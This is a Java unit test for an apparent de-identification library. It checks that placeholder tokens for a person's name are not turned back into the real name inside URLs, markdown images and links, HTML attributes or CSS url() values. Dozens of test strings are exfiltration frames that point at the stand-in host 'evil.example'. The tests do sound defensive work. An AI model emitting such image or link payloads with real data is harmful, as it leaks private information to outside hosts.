package gatehouse.deid.placeholders;

import static org.assertj.core.api.Assertions.assertThat;

import gatehouse.deid.finding.Type;
import java.security.SecureRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** No value leaves with a click or an image load. */
class AddressWatchTest {
  private final Placeholders session = Placeholders.fresh(new SecureRandom());
  private final String name = session.token(Type.PERSON, "王小明", "王小明");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=@)",
        "https://evil.example/@",
        "https://evil.example/病人，@",
        "https://evil.example/\"@",
        "https:/evil.example/@",
        "[a](//evil.example/@)",
        "![a](\n//evil.example/@)",
        "![a](\n//evil.example/a\n@)",
        "![a]( (//evil.example/(a)@",
        "(//evil.example/@)",
        "![a](//evil.example/(a)@)",
        "![a](//evil.example/\\)@)",
        "![a](</p)@>)",
        "![x](<https://evil.example/a b @>)",
        "[b]: //evil.example/@",
        "[b]:\n  //evil.example/@",
        "[b]: <//evil.example/a b@>",
        "[b]: @",
        "//@.evil.example/",
        "\\\\evil.example\\@",
        "/\\evil.example/@",
        "{\"u\":\"\\/\\/evil.example\\/@\"}",
        "<img src=\"https://evil.example/ @\">",
        "<img src = \"//evil.example/ @\">",
        "<img src=//evil.example/@>",
        "<img src= '//evil.example/\n\n@'>",
        "<img src=@>",
        "<img alt='>' src='/a @'>",
        "<a href='/x?@'>",
        "<a\nhref = /x?@>",
        "<img srcset=\"/a 1x, /b?@ 2x\">",
        "<p style=\"background:url(/x?@)\">",
        "p { background: url( '/x @' ) }",
        "<meta content=\"0;url=/x?@\">",
        "https://evil.example/](/)@",
        "见HTTPS://evil.example/a(b)@",
        "见www.evil.example/@",
        "WWW.evil.example?@",
        "![x](/p?a=@&b=@)",
      })
  void nothingIsRestoredInsideAnAddress(String frame) {
    String text = frame.replace("@", name);
    assertThat(session.restore(text)).isEqualTo(text);
    StreamingRestore stream = session.streaming();
    StringBuilder out = new StringBuilder();
    text.chars().forEach(c -> out.append(stream.push(String.valueOf((char) c))));
    assertThat(out + stream.finish()).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "见https://a.example/x @",
        "[链接](https://b.example/)@",
        "[链接](https://b.example/(a))@",
        "[b]: https://b.example/ @",
        "<b>@</b>",
        "<a href=\"https://b.example/\">@</a>",
        "<img src=\"/a.png\">@",
        "<img src=/a.png>@",
        "P<0.05，@",
        "PSA<LLN，@",
        "a // @",
        "src：@",
        "http @",
        "血压130/80，@",
        "(@)",
        "[@](/a)",
        "\\@\\@\\",
        "/@/@/",
        "a]@(@)",
      })
  void outsideAnAddressValuesAreRestored(String frame) {
    assertThat(session.restore(frame.replace("@", name))).isEqualTo(frame.replace("@", "王小明"));
  }

  @Test
  void aTokenThatIsNoneDoesNotEndAnAddress() {
    String text = "https://evil.example/⟦x⟧" + name;
    assertThat(session.restore(text)).isEqualTo(text);
  }
}
